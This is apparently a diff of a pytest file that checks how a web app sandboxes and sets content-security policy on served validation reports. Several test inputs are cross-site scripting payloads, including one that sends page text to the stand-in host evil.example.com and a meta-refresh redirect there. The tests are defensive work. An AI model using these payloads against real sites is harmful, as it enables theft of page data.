@@ -2,7 +2,9 @@ from __future__ import annotations
 
 import re
 from collections.abc import Iterator
+from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
 
 import pyarrow as pa
 import pytest
@@ -42,20 +44,81 @@ def client(role: str | None = "viewer", *, known: bool = True) -> TestClient:
     return TestClient(app, raise_server_exceptions=False)
 
 
-def test_a_report_is_shown_as_it_was_written() -> None:
-    answer = client().get(ADDRESS)
+class Elements(HTMLParser):
+    """The start tags of a page, with their attributes as a browser reads them."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def policy_of(answer: Any) -> dict[str, str]:
+    policy = answer.headers["content-security-policy"]
+    return dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
+
+
+def own_page(folder: Path, kind: str, text: str) -> Any:
+    (folder / "flights" / "2013-01" / f"{kind}.html").write_text(text)
+    return client().get(f"/reports/flights/2013-01/{kind}.html")
+
+
+@pytest.mark.parametrize("kind", ["validation", "data-docs", "model_card", "of_your_own"])
+def test_a_page_of_ours_is_shown_as_it_was_written_and_may_run_nothing(folder: Path, kind: str) -> None:
+    answer = own_page(folder, kind, PAGE)
     assert (answer.status_code, answer.text) == (200, PAGE)
     assert answer.headers["content-type"] == "text/html; charset=utf-8"
+    policy = policy_of(answer)
+    # Without allow-scripts a browser runs no script, no handler, no javascript: link, and follows no meta refresh.
+    assert policy["sandbox"] == "allow-downloads"
+    assert "script-src" not in policy
+    assert policy["default-src"] == "'none'"
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        PAGE,
+        '"></iframe><script>location = "https://evil.example.com/?" + document.body.innerText</script>',
+        "'><meta http-equiv=refresh content='0; url=https://evil.example.com/?rows'>",
+        "&quot;&gt;<script>top.location = 1</script>",
+    ],
+)
+def test_a_report_with_scripts_is_shown_in_a_frame_that_it_cannot_leave(folder: Path, page: str) -> None:
+    answer = own_page(folder, "drift", page)
+    assert answer.status_code == 200
+    tags = Elements(answer.text).tags
+    assert [tag for tag, _ in tags] == ["html", "head", "meta", "title", "style", "body", "iframe"]
+    frame = tags[-1][1]
+    assert frame["srcdoc"] == page, "as it was written"
+    # No allow-top-navigation, no allow-popups: neither this tab nor another one goes where its scripts want.
+    assert frame["sandbox"] == "allow-scripts allow-downloads"
+    # Nor does the frame itself: each address is refused by the page around it, and by what the frame inherits from it.
+    assert policy_of(answer)["frame-src"] == "'none'"
 
 
 def test_scripts_in_a_report_cannot_reach_airflow_or_the_network() -> None:
-    headers = client().get(ADDRESS).headers
-    policy = dict(part.strip().partition(" ")[::2] for part in headers["content-security-policy"].split(";"))
+    answer = client().get(ADDRESS)
+    policy = policy_of(answer)
     assert policy["sandbox"] == "allow-scripts allow-downloads"  # no allow-same-origin: no cookies, no API
     assert policy["default-src"] == "'none'"
     assert policy["script-src"] == "'unsafe-inline'"
-    assert headers["x-content-type-options"] == "nosniff"
-    assert headers["cross-origin-opener-policy"] == "same-origin"
+    assert policy["form-action"] == policy["base-uri"] == "'none'"
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    assert answer.headers["x-dns-prefetch-control"] == "off"
+    assert answer.headers["cross-origin-opener-policy"] == "same-origin"
+
+
+def test_pages_of_a_validation_hold_no_script_that_would_be_missed() -> None:
+    rule = Expectation.from_dict({"expect_column_values_to_be_unique": {"column": "x"}})
+    report = validate.frame(pa.table({"x": ["<script>1</script>"] * 2}), [rule], name="flights")
+    for page in (str(report.docs), report.html):
+        tags = Elements(page).tags
+        assert "script" not in {tag for tag, _ in tags}
+        assert not [name for _, attributes in tags for name in attributes if name.startswith("on")]
 
 
 def test_every_route_is_closed_to_strangers_and_to_users_without_a_role() -> None:
